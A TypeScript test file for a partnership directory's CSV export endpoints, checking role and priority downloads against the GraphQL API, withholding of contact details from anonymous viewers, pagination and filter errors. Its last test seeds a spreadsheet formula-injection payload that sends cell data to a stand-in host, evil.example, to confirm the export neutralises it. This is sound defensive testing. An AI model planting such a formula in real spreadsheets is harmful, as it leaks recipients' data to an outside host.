/**
 * The partnership lists as CSV over HTTP: people and roles by locality, and live priorities. Each
 * download carries exactly what the GraphQL list gives the same viewer (contact details withheld
 * from an anonymous viewer though the records hold them), reads every page of a long list with a
 * bounded number of statements per page, and refuses bad filters with a reason. Records are
 * written by the test straight into the record store (the mutations have their own tests).
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestServer, type TestServer } from '../support/server.js';

let t: TestServer;
let kinds: Map<string, number>;
const today = new Date().toISOString().slice(0, 10);
const day = (iso: string) => new Date(`${iso}T00:00:00.000Z`);
// The sample may hold partnership records of its own: the tests pick out theirs by these names.
const OURS = ['Ann Lead', 'Bob "Bobby" Officer, PCSO', 'Cath Member'];
const OUR_PRIORITIES = ['Reduce loneliness in older people', 'Safer town centre', 'Rural transport', 'An old idea'];
const ours = (records: Record<string, string>[]) => records.filter((r) => OURS.includes(r.Person!));
const ourPriorities = (records: Record<string, string>[]) => records.filter((r) => OUR_PRIORITIES.includes(r.Priority!));

beforeAll(async () => {
  t = await startTestServer();
  const db = t.server.stores.records.prisma;
  const localities = new Map((await db.locality.findMany({ select: { id: true, code: true } })).map((l) => [l.code, l.id]));
  kinds = new Map((await db.localityRoleKind.findMany({ select: { id: true, code: true } })).map((k) => [k.code, k.id]));
  const council = await db.partner.create({ data: { name: 'Export Test Council', kind: 'COUNCIL' } });
  const police = await db.partner.create({ data: { name: 'Export Test Police', kind: 'POLICE' } });
  const people = await Promise.all(
    [
      { name: 'Ann Lead', jobTitle: 'Locality lead', partnerId: council.id, email: 'ann@example.org', phone: '01432 000001', directoryConsent: true },
      { name: 'Bob "Bobby" Officer, PCSO', jobTitle: 'PCSO', partnerId: police.id, email: 'bob@example.org', phone: '01432 000002', directoryConsent: true },
      { name: 'Cath Member', jobTitle: 'Ward member', partnerId: council.id, email: 'cath@example.org', phone: null, directoryConsent: true },
    ].map((data) => db.person.create({ data })),
  );
  const [ann, bob, cath] = people as [(typeof people)[number], (typeof people)[number], (typeof people)[number]];
  await db.localityRole.createMany({
    data: [
      { personId: ann.id, partnerId: council.id, localityId: localities.get('leominster')!, kindId: kinds.get('senior-manager-lead')!, startsOn: day('2020-04-01') },
      { personId: bob.id, partnerId: police.id, localityId: localities.get('leominster')!, kindId: kinds.get('single-point-of-contact')!, startsOn: day('2021-01-01') },
      { personId: cath.id, localityId: localities.get('kington')!, kindId: kinds.get('ward-member')!, startsOn: day('2019-05-01') },
      // Ended: in the history, not in today's list.
      { personId: cath.id, localityId: localities.get('leominster')!, kindId: kinds.get('ward-member')!, startsOn: day('2015-05-01'), endsOn: day('2019-05-01') },
    ],
  });
  await db.priority.createMany({
    data: [
      { localityId: localities.get('leominster')!, title: 'Reduce loneliness in older people', theme: 'health', status: 'LIVE', startsOn: day('2024-01-01') },
      { localityId: localities.get('leominster')!, title: 'Safer town centre', description: 'Night-time economy, with the police', theme: 'community safety', status: 'LIVE' },
      { localityId: localities.get('weobley')!, title: 'Rural transport', theme: 'economy', status: 'LIVE' },
      { localityId: localities.get('weobley')!, title: 'An old idea', theme: 'economy', status: 'DROPPED' },
    ],
  });
});
afterAll(async () => {
  await t?.stop();
});

async function download(path: string) {
  const response = await fetch(`${t.url}${path}`);
  const bytes = Buffer.from(await response.arrayBuffer());
  return {
    status: response.status,
    type: response.headers.get('content-type'),
    disposition: response.headers.get('content-disposition'),
    bytes,
    text: bytes.toString('utf8'),
    records: () => parse(bytes, { bom: true, columns: true }) as Record<string, string>[],
  };
}

const cell = (value: unknown) => (value === null || value === undefined ? '' : String(value));

describe('people and roles by locality as CSV', () => {
  it('gives today’s roles exactly as the GraphQL list gives them to the same (anonymous) viewer, contact details withheld', async () => {
    const api = await t.gql(`{ localityRoles(on: "${today}", first: 500) { edges { node {
      kind { code name } startsOn endsOn current locality { code name groups { name } } serviceArea { name } partner { name }
      person { name jobTitle email phone partner { name } } } } } }`);
    const nodes = api.data.localityRoles.edges.map((e: any) => e.node);
    expect(nodes.filter((n: any) => OURS.includes(n.person?.name))).toHaveLength(3);

    const file = await download('/exports/roles.csv');
    expect(file.status).toBe(200);
    expect(file.type).toBe('text/csv; charset=utf-8');
    expect(file.disposition).toBe(`attachment; filename=roles-all-${today}.csv`);
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = file.records();
    expect(records.map((r) => Object.values(r))).toEqual(
      nodes.map((n: any) => [
        cell(n.locality?.code), cell(n.locality?.name), cell(n.locality?.groups.map((g: { name: string }) => g.name).join('; ')), cell(n.serviceArea?.name), n.kind.name, n.kind.code, cell(n.person?.name),
        cell(n.person?.jobTitle), cell(n.partner?.name ?? n.person?.partner?.name), cell(n.person?.email), cell(n.person?.phone),
        n.startsOn, cell(n.endsOn), String(n.current),
      ]),
    );
    // The records hold email addresses; an anonymous viewer gets none, in the API and in the file.
    expect(new Set(records.map((r) => r.Email))).toEqual(new Set(['']));
    expect(new Set(records.map((r) => r.Phone))).toEqual(new Set(['']));
    expect(file.text).not.toContain('@');
    // Quoting keeps a name with a comma and quotes in one cell.
    expect(records.map((r) => r.Person)).toContain('Bob "Bobby" Officer, PCSO');
  });

  it('narrows to a locality or tier, and gives the whole history on request', async () => {
    const leominster = (await download('/exports/roles.csv?locality=leominster')).records();
    expect(new Set(leominster.map((r) => r['Locality Code']))).toEqual(new Set(['leominster']));
    expect(ours(leominster).map((r) => [r.Role, r['Role Code'], r.Person]).sort()).toEqual([
      ['Senior manager lead', 'senior-manager-lead', 'Ann Lead'],
      ['Single point of contact', 'single-point-of-contact', 'Bob "Bobby" Officer, PCSO'],
    ]);
    const history = await download('/exports/roles.csv?locality=leominster&history=true');
    expect(history.disposition).toBe('attachment; filename=roles-leominster-history.csv');
    expect(ours(history.records()).find((r) => r['Ends On'] === '2019-05-01')).toMatchObject({ Person: 'Cath Member', Current: 'false' });
    const rural = (await download('/exports/roles.csv?group=tier/market-town')).records();
    expect(new Set(rural.map((r) => r.Groups))).toEqual(new Set(['Market towns']));
    const onDay = (await download('/exports/roles.csv?locality=leominster&on=2016-01-01')).records();
    expect(ours(onDay).map((r) => r.Person)).toEqual(['Cath Member']);
  });

  it('reads every page of a long list, with a bounded number of statements per page', async () => {
    const db = t.server.stores.records.prisma;
    const mortimer = (await db.locality.findUniqueOrThrow({ where: { code: 'mortimer' } })).id;
    const contact = await db.person.create({ data: { name: 'Network Contact', directoryConsent: true } });
    await db.localityRole.createMany({
      data: Array.from({ length: 620 }, (_, i) => ({ personId: contact.id, localityId: mortimer, kindId: kinds.get('network-contact')!, startsOn: day(`2020-01-${String((i % 28) + 1).padStart(2, '0')}`) })),
    });
    const onePage = await t.countStatements(() => download('/exports/roles.csv?locality=kington'));
    let records: Record<string, string>[] = [];
    const twoPages = await t.countStatements(async () => {
      records = (await download('/exports/roles.csv?locality=mortimer&history=true')).records();
    });
    const api = await t.gql(`{ localityRoles(localityCode: "mortimer", first: 1) { totalCount } }`);
    expect(api.data.localityRoles.totalCount).toBeGreaterThanOrEqual(620);
    expect(records).toHaveLength(api.data.localityRoles.totalCount);
    expect(records.filter((r) => r.Person === 'Network Contact')).toHaveLength(620);
    expect(twoPages.records).toBeLessThanOrEqual(2 * onePage.records);
  });

  it('refuses an unknown locality, a bad tier, day or flag with a reason', async () => {
    const cases: [string, number, RegExp][] = [
      ['/exports/roles.csv?locality=atlantis', 404, /Locality "atlantis" was not found/],
      ['/exports/roles.csv?group=tier/SUBURBS', 404, /Locality group "tier\/SUBURBS" was not found/],
      ['/exports/roles.csv?on=yesterday', 400, /YYYY-MM-DD/],
      ['/exports/roles.csv?history=maybe', 400, /history is true or false/],
      ['/exports/priorities.csv?status=SOMEDAY', 400, /SOMEDAY/],
    ];
    for (const [path, status, message] of cases) {
      const response = await fetch(`${t.url}${path}`);
      expect([path, response.status]).toEqual([path, status]);
      expect(await response.text()).toMatch(message);
    }
  });
});

describe('priorities as CSV', () => {
  it('gives the live priorities exactly as the GraphQL list gives them', async () => {
    const api = await t.gql(`{ priorities(status: LIVE, first: 500) { edges { node {
      title description theme status startsOn endsOn evidenceIndicatorIds locality { code name } board { name } } } } }`);
    const nodes = api.data.priorities.edges.map((e: any) => e.node);
    const file = await download('/exports/priorities.csv');
    expect(file.disposition).toBe('attachment; filename=priorities-all-live.csv');
    expect(file.records().map((r) => Object.values(r))).toEqual(
      nodes.map((n: any) => [
        cell(n.locality?.code), cell(n.locality?.name), cell(n.board?.name), n.title, cell(n.description), n.theme, n.status,
        cell(n.startsOn), cell(n.endsOn), n.evidenceIndicatorIds.join('; '),
      ]),
    );
    expect(new Set(file.records().map((r) => r.Status))).toEqual(new Set(['LIVE']));
    expect(ourPriorities(file.records()).map((r) => r.Priority).sort()).toEqual(['Reduce loneliness in older people', 'Rural transport', 'Safer town centre']);
  });

  it('narrows to a locality, and gives every status on request', async () => {
    const weobley = (await download('/exports/priorities.csv?locality=weobley&status=ALL')).records();
    expect(new Set(weobley.map((r) => r['Locality Code']))).toEqual(new Set(['weobley']));
    expect(ourPriorities(weobley).map((r) => [r.Priority, r.Status]).sort()).toEqual([
      ['An old idea', 'DROPPED'],
      ['Rural transport', 'LIVE'],
    ]);
    const health = (await download('/exports/priorities.csv?theme=health')).records();
    expect(new Set(health.map((r) => r.Theme))).toEqual(new Set(['health']));
    expect(ourPriorities(health).map((r) => r.Priority)).toEqual(['Reduce loneliness in older people']);
  });

  it('never writes a cell a spreadsheet would run as a formula', async () => {
    const db = t.server.stores.records.prisma;
    const ledbury = (await db.locality.findUniqueOrThrow({ where: { code: 'ledbury' } })).id;
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
    await db.priority.create({ data: { localityId: ledbury, title, description: '+SUM(1,2)', theme: '-10% budget', status: 'DRAFT' } });
    const api = await t.gql(`{ priorities(localityCode: "ledbury", status: DRAFT) { edges { node { title } } } }`);
    expect(api.data.priorities.edges.map((e: any) => e.node.title)).toContain(title);
    const row = (await download('/exports/priorities.csv?locality=ledbury&status=DRAFT')).records().find((r) => r.Priority === `'${title}`);
    expect(row).toMatchObject({ Priority: `'${title}`, Description: "'+SUM(1,2)", Theme: "'-10% budget" });
  });
});
